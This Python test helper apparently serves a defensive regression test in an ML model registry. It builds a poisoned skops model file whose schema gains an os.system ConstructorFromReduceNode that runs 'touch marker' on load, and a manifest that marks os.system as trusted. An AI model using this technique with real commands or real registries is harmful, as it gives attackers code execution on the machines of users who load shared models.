"""A hostile model package, built the way a writer with an upload token could build it.

The skops file is a real fitted estimator with one extra attribute whose node is a
``ConstructorFromReduceNode`` for ``os.system``: skops calls ``os.system(command)`` while
constructing it, and the estimator still predicts normally. The manifest is the uploader's:
it lists ``os.system`` among its types, as the issue describes.
"""

from __future__ import annotations

import io
import json
import shlex
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import skops.io as sio

from loopml.core.hashing import sha256_file
from loopml.registry.packaging import MANIFEST, ModelInfo, _write_package
from loopml.registry.signature import infer_signature

PAYLOAD_TYPE = "os.system"


def poisoned_skops(model: Any, marker: Path) -> bytes:
    """``model`` dumped by skops, plus an attribute that runs ``touch marker`` when loaded."""
    data = sio.dumps(model)
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    schema = json.loads(entries["schema.json"])
    command = json.dumps(f"touch {shlex.quote(str(marker))}")  # JsonNode content is JSON text
    attrs = schema["content"]  # the estimator's __dict__: a DictNode with one key type per key
    attrs["key_types"]["content"].append(attrs["key_types"]["content"][0])
    attrs["content"]["_loopml_note"] = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": command,
                    "is_json": True,
                }
            ],
        },
    }
    entries["schema.json"] = json.dumps(schema).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, content in entries.items():
            target.writestr(name, content)
    return buffer.getvalue()


def log_poisoned_model(model: Any, marker: Path, example: Any, *, artifact_path: str = "model") -> ModelInfo:
    """Log a package whose skops file runs the payload and whose manifest vouches for it (active run)."""
    import loopml as lm

    run = lm.active_run()
    if run is None:
        raise RuntimeError("log_poisoned_model needs an active run")
    signature = infer_signature(example, model.predict(example))
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        manifest = _write_package(model, folder, signature, example)
        (folder / "model.skops").write_bytes(poisoned_skops(model, marker))
        manifest["files"]["model.skops"] = sha256_file(folder / "model.skops")
        needs = sorted({*manifest.get("needs_types", []), PAYLOAD_TYPE})
        manifest["needs_types"] = manifest["trusted_types"] = needs  # what the old loader read
        (folder / MANIFEST).write_text(json.dumps(manifest, indent=2, sort_keys=True))
        infos = run.log_artifact(folder, artifact_path)
    manifest_sha = next(i.sha256 for i in infos if i.path == f"{artifact_path}/{MANIFEST}")
    return ModelInfo(f"runs:/{run.id}/{artifact_path}", run.id, artifact_path, manifest, manifest_sha)
